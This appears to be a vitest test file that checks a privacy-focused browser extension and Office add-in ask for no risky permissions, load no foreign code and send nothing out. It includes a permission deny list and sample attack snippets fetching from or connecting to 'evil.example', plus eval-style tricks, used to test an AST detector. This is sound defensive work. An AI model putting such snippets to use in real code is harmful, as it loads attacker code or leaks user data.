import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "acorn";
import { describe, expect, test } from "vitest";
import { policySchema } from "../../src/policy.ts";
import { filesIn } from "../../src/release/checksums.ts";
import { root } from "../../src/release/shipped.ts";

const dist = (path: string) => join(root, "dist", path);
const read = (path: string) => {
  expect(existsSync(dist(path)), `dist/${path} is not built: npm run build:parts`).toBe(true);
  return readFileSync(dist(path), "utf8");
};
const manifest = (browser: string) => JSON.parse(read(`extension/${browser}-mv3/manifest.json`)) as Record<string, unknown>;
const { version } = JSON.parse(readFileSync(join(root, "package.json"), "utf8")) as { version: string };
const browsers = ["chrome", "firefox"];

/** Every permission with the reason for it. Another one is asked of every user again, and has to be argued here first. */
const PERMISSIONS: Readonly<Record<string, string>> = {
  storage: "reads the administrator's policy and keeps an imported one; nothing that was pasted is ever put there",
  contextMenus: "checks, anonymises or protects selected text from the menu of the right mouse button",
  offscreen: "Chrome only: a hidden page of our own reads files and long texts on this computer, so that no web page freezes",
};
/** Permissions that would let text out or see what people do elsewhere. None of them may ever come. */
const NEVER = [
  "tabs",
  "webRequest",
  "webNavigation",
  "history",
  "cookies",
  "downloads",
  "clipboardRead",
  "nativeMessaging",
  "identity",
  "scripting",
  "<all_urls>",
];

describe.each(browsers)("the extension for %s", (browser) => {
  test("asks for no permission without a reason, and no host to talk to", () => {
    const {
      permissions = [],
      optional_permissions,
      host_permissions,
      optional_host_permissions,
    } = manifest(browser) as Record<string, string[]>;
    expect(permissions).toEqual(Object.keys(PERMISSIONS).filter((name) => browser === "chrome" || name !== "offscreen"));
    for (const name of NEVER) expect(permissions).not.toContain(name);
    expect({ optional_permissions, host_permissions, optional_host_permissions }).toEqual({});
  });
  test("lets its pages load and connect to nothing", () => {
    const { extension_pages } = manifest(browser).content_security_policy as { extension_pages: string };
    const rules = new Map(extension_pages.split("; ").map((rule) => [rule.split(" ")[0], rule.split(" ").slice(1)] as const));
    expect(rules.get("default-src")).toEqual(["'none'"]);
    expect(rules.get("connect-src")).toEqual(["'none'"]);
    expect(rules.get("script-src")).toEqual(["'self'"]);
    expect(rules.get("form-action")).toEqual(["'none'"]);
    expect(rules.get("frame-ancestors")).toEqual(["'none'"]);
    expect(extension_pages).not.toMatch(/unsafe|https?:|\*|wasm/);
  });
  test("is reachable for no page and no other extension", () => {
    const { web_accessible_resources, externally_connectable, background } = manifest(browser) as Record<string, unknown>;
    expect({ web_accessible_resources, externally_connectable }).toEqual({});
    expect(JSON.stringify(background)).not.toContain("http");
  });
  test("carries the notices", () => expect(read(`extension/${browser}-mv3/THIRD-PARTY-NOTICES.txt`)).toContain("preact"));
});

test.each(["taskpane.html", "launchevent.html"])("the add-in's %s may load Office.js, and reach nothing but its own folder", (page) => {
  const policy = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(read(`addin/${page}`))?.[1] ?? "";
  const rules = new Map(policy.split("; ").map((rule) => [rule.split(" ")[0], rule.split(" ").slice(1)] as const));
  expect(rules.get("default-src")).toEqual(["'none'"]);
  expect(rules.get("connect-src")).toEqual(["'self'"]);
  expect(rules.get("form-action")).toEqual(["'none'"]);
  for (const source of rules.get("script-src") ?? ["missing"]) expect(["'self'", ...OFFICE_HOSTS]).toContain(source);
});

test("Firefox is told that no data is collected", () => {
  expect(manifest("firefox")).toMatchObject({
    browser_specific_settings: { gecko: { data_collection_permissions: { required: ["none"] } } },
  });
});

test("the schema Chrome and Edge check a managed policy with is the policy's own", () => {
  const schema = JSON.parse(read("extension/chrome-mv3/managed-schema.json")) as {
    type: string;
    properties: Record<string, { type: string }>;
  };
  const own = Object.keys(policySchema().properties as object).filter((key) => key !== "$schema");
  expect(Object.keys(schema.properties).sort()).toEqual([...own, "json"].sort());
  expect(schema.properties.json?.type).toBe("string");
  // Chrome refuses a whole policy over a value without a type.
  const check = (value: unknown, at: string) => {
    if (value === null || typeof value !== "object") return;
    const { type, properties = {}, items, additionalProperties } = value as Record<string, unknown>;
    expect(typeof type, at).toBe("string");
    for (const [key, inner] of Object.entries(properties as object)) check(inner, `${at}.${key}`);
    if (items !== undefined) check(items, `${at}[]`);
    if (additionalProperties !== undefined) check(additionalProperties, `${at}.*`);
  };
  check(schema, "");
});

test("the version comes from one place", () => {
  for (const browser of browsers) expect(manifest(browser).version).toBe(version);
  expect(read("addin/manifest.xml")).toContain(`<Version>${version}.0</Version>`);
  expect(JSON.parse(read("addin/manifest.json"))).toMatchObject({ version });
});

test("no source of ours writes markup into a page", () => {
  for (const dir of ["src", "entrypoints", "addin"])
    for (const file of filesIn(join(root, dir)).filter((name) => /\.tsx?$/.test(name)))
      expect(readFileSync(join(root, dir, file), "utf8"), `${dir}/${file}`).not.toMatch(
        /dangerouslySetInnerHTML|\.(?:inner|outer)HTML\s*=|insertAdjacentHTML|document\.write\(/,
      );
});

/** Every script we ship, and the addresses the pages load. */
const scripts = existsSync(dist(""))
  ? ["extension/chrome-mv3", "extension/firefox-mv3", "addin"].flatMap((dir) => filesIn(dist(dir)).map((file) => `${dir}/${file}`))
  : [];

describe("no code from elsewhere, and no code made of text:", () => {
  const js = scripts.filter((file) => file.endsWith(".js"));
  test("there are scripts to look at", () => expect(js.length).toBeGreaterThan(8));
  test.each(js)("%s", (file) => {
    // The add-in's pages ask one file of their own folder: the organisation's policy. The send handler asks nothing.
    const asks = /^addin\/(?:taskpane|event-page)\.js$/.test(file);
    expect(dangers(read(file))).toEqual(asks ? ["the policy beside the add-in"] : []);
  });
  test.each(scripts.filter((file) => file.endsWith(".html")))("%s loads only its own files", (file) => {
    const addresses = Array.from(read(file).matchAll(/\b(?:src|href)="([^"]+)"/g), ([, address = ""]) => address);
    const foreign = addresses.filter((address) => /^(?:[a-z]+:)?\/\//i.test(address));
    expect(foreign.filter((address) => address !== OFFICE)).toEqual([]);
    if (!file.startsWith("addin/")) expect(foreign).toEqual([]);
    expect(read(file)).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>[^<]*\S/);
  });
  test("the one request is known for what it is", () =>
    expect(dangers("fetch(`policy.json`, { cache: 'no-cache', redirect: 'error', signal })")).toEqual(["the policy beside the add-in"]));
  test.each([
    ["eval", "eval(x)"],
    ["new Function", "new Function('return 1')"],
    ["Function without new", "var f = Function('a', 'return a')"],
    ["Function by another name", "const F = Function; new F('return 1')"],
    ["the constructor by the back door", "(() => {}).constructor('return 1')()"],
    ["a timer that reads text as code", "setTimeout('alert(1)', 0)"],
    ["a script from elsewhere", "importScripts('https://evil.example/x.js')"],
    ["a module from elsewhere", "import('https://evil.example/x.js')"],
    ["a module nobody knows", "import(x)"],
    ["fetch", "fetch('https://evil.example')"],
    ["fetch of the policy that sends something along", "fetch('policy.json', { method: 'POST', body: x })"],
    ["fetch of the policy with options nobody knows", "fetch('policy.json', x)"],
    ["fetch of the policy with something in its address", "fetch('policy.json?' + x)"],
    ["XMLHttpRequest", "new XMLHttpRequest()"],
    ["WebSocket", "new WebSocket('wss://evil.example')"],
    ["a beacon", "navigator.sendBeacon('x', 'y')"],
    ["event source", "new EventSource('x')"],
    ["a peer connection", "new RTCPeerConnection()"],
    ["WebAssembly", "WebAssembly.instantiate(x)"],
  ])("%s is noticed", (_what, code) => {
    expect(dangers(code)).toHaveLength(1);
    expect(dangers(code)).not.toContain("the policy beside the add-in");
  });
});

/** A GET for `policy.json` beside the page, with nothing of ours in it: no body, no headers, nothing in the address. */
function asksForPolicy([address, options]: readonly Node[]): boolean {
  const plain =
    address?.type === "Literal"
      ? address.value
      : address?.type === "TemplateLiteral" && (address.expressions as Node[]).length === 0
        ? (address.quasis as { value: { cooked: string } }[])[0]?.value.cooked
        : undefined;
  if (plain !== "policy.json") return false;
  if (options === undefined) return true;
  if (options.type !== "ObjectExpression") return false;
  const names = (options.properties as { key?: { name?: string }; computed?: boolean }[]).map(({ key, computed }) =>
    computed ? undefined : key?.name,
  );
  return names.every((name) => name !== undefined && ["cache", "redirect", "signal"].includes(name));
}

/** Where Office.js and the parts it loads itself come from. */
const OFFICE_HOSTS = ["https://appsforoffice.microsoft.com", "https://ajax.aspnetcdn.com"];
/** Microsoft asks that Office.js is loaded from here, and nowhere else (the one exception the README names). */
const OFFICE = "https://appsforoffice.microsoft.com/lib/1/hosted/office.js";

interface Node {
  readonly type: string;
  readonly [key: string]: unknown;
}

const CALLS = /^(?:eval|Function|importScripts|fetch|XMLHttpRequest|WebSocket|EventSource|RTCPeerConnection|WebTransport|sendBeacon)$/;

/** What would run text as code, load code, or send something, by name. Looks at syntax, so that a word in a sentence is none. */
function dangers(code: string): string[] {
  const found: string[] = [];
  const nameOf = (node: Node | undefined): string => {
    if (node?.type === "Identifier") return node.name as string;
    if (node?.type === "MemberExpression") {
      const property = node.property as Node;
      return property.type === "Identifier" && !node.computed
        ? (property.name as string)
        : String((property as { value?: unknown }).value ?? "");
    }
    return "";
  };
  const visit = (node: unknown): void => {
    if (Array.isArray(node)) for (const each of node) visit(each);
    if (node === null || typeof node !== "object" || !("type" in node)) return;
    const { type } = node as Node;
    if (type === "CallExpression" || type === "NewExpression") {
      const { callee, arguments: given } = node as unknown as { callee: Node; arguments: Node[] };
      const name = nameOf(callee);
      const first = given[0];
      const text =
        first?.type === "TemplateLiteral" || (first?.type === "Literal" && typeof (first as { value?: unknown }).value === "string");
      if (name === "fetch" && type === "CallExpression" && asksForPolicy(given)) found.push("the policy beside the add-in");
      else if (CALLS.test(name)) found.push(name);
      else if (name === "constructor" && text && type === "CallExpression") found.push("constructor");
      else if (/^set(?:Timeout|Interval)$/.test(name) && text) found.push(name);
    }
    // `const F = Function; new F(…)`: under another name it is the same.
    const given =
      type === "VariableDeclarator"
        ? (node as { init?: Node }).init
        : type === "AssignmentExpression"
          ? (node as { right?: Node }).right
          : undefined;
    if (given?.type === "Identifier" && /^(?:eval|Function)$/.test(given.name as string)) found.push(given.name as string);
    if (type === "MemberExpression" && nameOf((node as { object?: Node }).object) === "WebAssembly") found.push("WebAssembly");
    if (type === "ImportExpression") {
      const source = (node as { source?: { value?: unknown } }).source?.value;
      if (typeof source !== "string" || !source.startsWith(".")) found.push("import()");
    }
    for (const [key, value] of Object.entries(node)) if (key !== "type") visit(value);
  };
  let tree: unknown;
  try {
    tree = parse(code, { ecmaVersion: "latest", sourceType: "module" });
  } catch {
    tree = parse(code, { ecmaVersion: "latest", sourceType: "script" });
  }
  visit(tree);
  return found;
}
